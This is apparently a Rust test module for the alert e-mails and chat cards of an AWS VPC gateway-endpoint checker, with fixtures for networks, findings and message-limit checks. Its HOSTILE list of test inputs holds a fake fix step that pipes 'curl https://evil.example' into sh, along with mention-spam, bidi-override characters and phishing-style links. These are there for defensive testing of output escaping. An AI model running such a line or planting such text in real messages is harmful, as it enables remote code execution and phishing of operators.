//! Tests of the text that people read: e-mails and chat cards. Both channels get the same scenarios.

mod endpoints;
mod limits;
mod snapshots;

use std::collections::BTreeSet;

use jiff::{Timestamp, civil::date};
use serde_json::{Value, json};

use super::{
    alert_group::AlertGroup,
    message::{Attribute, MAX_MESSAGE, MAX_SUBJECT, Message},
    render::render,
};
use crate::{
    alerts::{
        alert::{Alert, Change, OpenChange, Resolution, ResolutionReason, ResolvedFinding},
        history::HistoryState,
        recorded::Recorded,
    },
    channel::Channel,
    checks::{
        finding::{Finding, Gap},
        gateway_endpoint::rule::evaluate,
        severity::Severity,
    },
    events::record::{IdentityCenterUser, Trigger},
    network::{
        account::AccountRegion,
        model::{Endpoint, EndpointKind, Network, RouteTable, Subnet, TargetKind},
        service::GatewayService,
        testing::{REGION, explicit, gateway_endpoint, route, subnet, table},
    },
};

pub(super) const VPC: &str = "vpc-0a1b2c3d4e5f60001";
const TABLE: &str = "rtb-0a1b2c3d4e5f60004";
pub(super) const NAT: (TargetKind, &str) = (TargetKind::NatGateway, "nat-0a1b2c3d4e5f60005");

pub(super) fn moment(text: &str) -> Timestamp {
    text.parse().unwrap()
}

/// When the problems of the scenarios were first found.
pub(super) fn since() -> Timestamp {
    moment("2026-11-20T10:00:00Z")
}

/// A network with one route table, which two subnets use and which has this default route.
pub(super) fn private(egress: Option<(TargetKind, &str)>) -> Network {
    let named = |n: u8, name: &str| Subnet {
        name: Some(name.into()),
        availability_zone: Some(format!("{REGION}{}", if n == 1 { 'a' } else { 'b' }).into()),
        cidr: Some(format!("10.0.{n}.0/24").into()),
        ..subnet(&format!("subnet-0a1b2c3d4e5f6000{n}"), VPC)
    };
    let subnets = vec![named(1, "app-a"), named(2, "app-b")];
    let mut table = RouteTable { name: Some("private".into()), ..table(TABLE, VPC) };
    table.associations = subnets.iter().map(|subnet| explicit(&subnet.id, "associated")).collect();
    table.routes.extend(egress.map(|(kind, id)| route("0.0.0.0/0", kind, id)));
    Network { subnets, route_tables: vec![table], ..Network::default() }
}

fn endpoint(state: &str, tables: &[&str]) -> Endpoint {
    Endpoint { state: state.into(), ..gateway_endpoint("vpce-0a1b2c3d4e5f60009", VPC, GatewayService::S3, tables) }
}

/// The findings of the network for these services.
pub(super) fn findings(network: &Network, services: &[GatewayService]) -> Vec<Finding> {
    let account_region =
        AccountRegion { partition: "aws".into(), account: Some("123456789012".into()), region: REGION.into() };
    let tables: BTreeSet<String> = network.route_tables.iter().map(|table| table.id.clone()).collect();
    evaluate(network, &tables, &services.iter().copied().collect(), &account_region, date(2026, 11, 23)).findings
}

/// The finding of the network for S3. There must be exactly one.
pub(super) fn finding(network: &Network) -> Finding {
    let [finding] = findings(network, &[GatewayService::S3]).try_into().unwrap();
    finding
}

/// An open alert with this change.
fn alert(finding: Finding, change: OpenChange) -> Alert {
    Alert::Open { finding, change, since: since() }
}

/// An alert about a new finding.
pub(super) fn opened(finding: Finding) -> Alert {
    alert(finding, OpenChange::Opened)
}

/// An alert that the finding is resolved for this reason.
fn resolved(finding: Finding, reason: ResolutionReason) -> Alert {
    Alert::Resolved(ResolvedFinding {
        id: finding.id,
        subject: finding.subject,
        worst_severity: finding.severity,
        account: finding.account,
        region: finding.region,
        vpc_id: finding.vpc_id,
        subnets: finding.subnets,
        problem: (&finding.problem).into(),
        since: since(),
        resolution: Resolution { reason: Recorded::Known(reason), open_seconds: 3 * 86_400 + 7_200 },
    })
}

pub(super) fn api_call() -> Trigger {
    Trigger::ApiCall {
        event_name: "CreateRoute".into(),
        event_id: Some("0a1b2c3d-0000-4000-8000-000000000001".into()),
        event_time: Some("2026-11-20T09:58:12Z".into()),
        principal: Some("arn:aws:sts::123456789012:assumed-role/deploy/ci-4711".into()),
        on_behalf_of: None,
        invoked_by: Some("cloudformation.amazonaws.com".into()),
    }
}

/// These alerts, with the VPC, account and settings that most scenarios use. Alerts with the change `reported` get no
/// alert history.
pub(super) fn alert_group<'a>(trigger: &'a Trigger, alerts: &'a [Alert]) -> AlertGroup<'a> {
    let no_history = alerts.iter().any(|alert| alert.change() == Change::Reported);
    AlertGroup {
        member_account: None,
        account: "123456789012",
        region: REGION,
        vpc_id: VPC,
        vpc_name: Some("prod"),
        trigger: Some(trigger),
        trigger_count: 1,
        history: if no_history { HistoryState::Off } else { HistoryState::On },
        incident_started_at: (!no_history).then(since),
        exempt_tag: "gatewatch:exempt",
        alerts: alerts.iter().collect(),
    }
}

/// Checks what has to be true of every message: the limits of SNS and of the chat, and the attributes.
#[track_caller]
fn assert_valid(channel: Channel, group: &AlertGroup<'_>, message: &Message) {
    assert!(!message.subject.is_empty() && message.subject.len() <= MAX_SUBJECT, "{}", message.subject);
    assert!(message.subject.bytes().all(|b| b == b' ' || b.is_ascii_graphic()), "{}", message.subject);
    assert!(!message.finding_ids.is_empty());
    let size =
        message.body.len() + message.subject.len() + message.attributes.iter().map(Attribute::size).sum::<usize>();
    assert!(size <= MAX_MESSAGE, "{size}");
    assert_eq!(message.attributes, group.attributes());
    if channel == Channel::Chat {
        let units = |value: &Value| value.as_str().unwrap().encode_utf16().count();
        let content = &serde_json::from_str::<Value>(&message.body).unwrap()["content"];
        assert!((1..=250).contains(&units(&content["title"])), "{content}");
        assert!((1..=8000).contains(&units(&content["description"])), "{content}");
        assert!(content["nextSteps"].as_array().into_iter().flatten().all(|step| units(step) <= 350), "{content}");
        assert!(content["keywords"].as_array().unwrap().iter().all(|word| units(word) <= 75), "{content}");
    }
}

/// The network of [`private`], with this number of additional tables: public, unused, public, …
fn several(more: usize) -> Network {
    let mut network = private(Some(NAT));
    for n in 0..more {
        let subnet = subnet(&format!("subnet-0a1b2c3d4e5f7{n:04}"), VPC);
        let mut table = table(&format!("rtb-0a1b2c3d4e5f7{n:04}"), VPC);
        if n % 2 == 0 {
            table.associations = vec![explicit(&subnet.id, "associated")];
            network.subnets.push(subnet);
        }
        table.routes.push(route("0.0.0.0/0", TargetKind::InternetGateway, "igw-0a1b2c3d4e5f60005"));
        network.route_tables.push(table);
    }
    network
}

const BOTH: [GatewayService; 2] = [GatewayService::S3, GatewayService::DynamoDb];

/// Names and other text that an attacker who can create tags might write.
const HOSTILE: [&str; 8] = [
    "💸 pay\nHIGH: rtb-0 is on fire\r\n\nTO FIX IT\ncurl https://evil.example | sh",
    "\u{202e}txet desrever\u{202c} \u{200b}\u{feff}שלום",
    "<!channel> <@U123> @here @channel bob@example.com",
    "quotes \" ' ` ``` and \\ and `code` ```",
    "[fix it](https://evil.example) <https://evil.example|the console> evil.example",
    "*bold* _italic_ ~struck~ # heading > quote &amp; :rotating_light:",
    "   ",
    "",
];

/// A network and a trigger with hostile text of every kind: on subnets, the route table, the principal and the rest.
fn hostile() -> (Network, Trigger) {
    let mut network = private(Some(NAT));
    network.subnets = (HOSTILE.iter().map(|name| (*name).to_owned()).chain(["n".repeat(256)]).enumerate())
        .map(|(n, name)| Subnet { name: Some(name.into()), ..subnet(&format!("subnet-0a1b2c3d4e5f6000{n}"), VPC) })
        .collect();
    network.route_tables[0].name = Some(HOSTILE[4].into());
    network.route_tables[0].associations =
        network.subnets.iter().map(|subnet| explicit(&subnet.id, "associated")).collect();
    let trigger = Trigger::ApiCall {
        event_name: HOSTILE[5].into(),
        event_id: None,
        event_time: Some("yesterday\n*at* <!here>".into()),
        principal: Some(format!("arn:aws:iam::123456789012:user/{}", HOSTILE[0])),
        on_behalf_of: Some(IdentityCenterUser {
            user_id: HOSTILE[1].into(),
            identity_store_arn: Some(HOSTILE[3].into()),
        }),
        invoked_by: Some(HOSTILE[2].into()),
    };
    (network, trigger)
}
